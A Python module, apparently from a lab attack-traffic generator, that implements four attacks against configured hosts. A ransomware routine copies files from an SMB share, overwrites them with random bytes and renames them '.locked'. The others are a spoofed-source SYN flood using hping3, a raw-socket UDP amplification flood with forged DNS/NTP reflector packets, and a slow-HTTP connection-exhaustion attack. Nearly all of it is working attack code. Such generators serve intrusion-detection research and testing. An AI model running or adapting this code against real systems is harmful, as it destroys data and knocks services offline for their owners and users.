"""What stops others from working."""

import os
import socket
import struct
import time

from ..plan import HOSTS
from ..work import Work, attack
from .means import by, smb, turns

_RAW_BYTES = 20


@attack("ransomware")
def ransomware(w: Work, intensity: str) -> None:
    """Files of the users' share are read, written again with noise and renamed, over few sessions: 100 in four rounds, 50 in
    five slower ones, or 24 in six with long pauses."""
    count, rounds, period = by(intensity, (100, 4, 96), (50, 5, 100), (24, 6, 400))
    files = _files(w)[:count]
    w.log(f"{len(files)} files")
    for turn in turns(w, rounds, period, 0.3):
        share = files[turn % rounds :: rounds]
        if share:
            _encrypt(w, share)
    w.log(f"{len(_files(w))} files left")


def _files(w: Work) -> list[str]:
    """Paths on the users' share."""
    said = smb(w, "users", "recurse ON; ls").stdout.decode(errors="replace")
    folder, found = "", []
    for line in said.splitlines():
        if line.startswith("\\"):
            folder = line.strip().replace("\\", "/").lstrip("/")
        # "  name   A   size   date": directories carry a D.
        name, kind = line[2:36].strip(), line[36:].split()[:1]
        if line.startswith("  ") and kind and "D" not in kind[0] and kind[0].isalpha() and not name.endswith(".locked"):
            found.append(f"{folder}/{name}".lstrip("/"))
    return found


def _encrypt(w: Work, paths: list[str]) -> None:
    """One session reads the files, one writes and renames them."""
    local = {path: w.dir / f"stolen-{number}" for number, path in enumerate(paths)}
    smb(w, "users", "; ".join(f'get "{path}" {copy}' for path, copy in local.items()))
    for copy in local.values():
        if copy.exists():
            copy.write_bytes(os.urandom(copy.stat().st_size))
    smb(w, "users", "; ".join(f'put {copy} "{path}"; rename "{path}" "{path}.locked"'
                              for path, copy in local.items() if copy.exists()))


@attack("syn-flood")
def syn_flood(w: Work, intensity: str) -> None:
    """SYN segments from made-up sources to the information system's web port (hping3): four bursts of 500 at 1000 a second,
    1000 at 30, or 300 at 5."""
    bursts, count, rate = by(intensity, (4, 500, 1000), (1, 1000, 30), (1, 300, 5))
    for _ in turns(w, bursts, 96):
        w.run("hping3", "-q", "-n", "-S", "-p", 8080, "--rand-source", "-c", count, "-i", f"u{1_000_000 // rate}",
              HOSTS["his"].v4, timeout=90, good=(0, 1))


@attack("udp-amplification")
def udp_amplification(w: Work, intensity: str) -> None:
    """Large DNS and NTP answers that nobody asked for come from 40 made-up reflectors to one server: four bursts of 1000 at
    800 a second, 1500 at 50, or 400 at 5."""
    bursts, count, rate = by(intensity, (4, 1000, 800), (1, 1500, 50), (1, 400, 5))
    victim = HOSTS["his"].v4
    # A client's port that nobody listens at; the reflectors' addresses are reserved for documents.
    port = w.rng.randrange(20_000, 30_000)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in turns(w, bursts, 96):
            began = time.monotonic()
            for number in range(count):
                reflector, service = f"198.51.100.{w.rng.randrange(1, 41)}", w.rng.choice((53, 123))
                raw.sendto(_datagram(reflector, victim, service, port, w.rng.randbytes(w.rng.randrange(440, 1200))), (victim, 0))
                if not w.pause(max(0.0, began + number / rate - time.monotonic())):
                    return


def _datagram(source: str, destination: str, from_port: int, to_port: int, payload: bytes) -> bytes:
    """An IPv4 packet with a UDP datagram; the kernel fills in the IP checksum, UDP's is left out."""
    length = 8 + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, _RAW_BYTES + length, 0, 0, 60, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    return head + struct.pack("!HHHH", from_port, to_port, length, 0) + payload


@attack("slow-http")
def slow_http(w: Work, intensity: str) -> None:
    """Requests to the information system that never end keep its connections busy (slowhttptest): 100 for 90 s, 40 for 60 s,
    or 8 for 100 s."""
    connections, rate, seconds = by(intensity, (100, 20, 90), (40, 5, 60), (8, 1, 100))
    w.run("slowhttptest", "-H", "-c", connections, "-r", rate, "-i", 10, "-l", seconds, "-p", 5,
          "-u", f"http://{HOSTS['his'].v4}:8080/", timeout=seconds + 30, good=range(256))
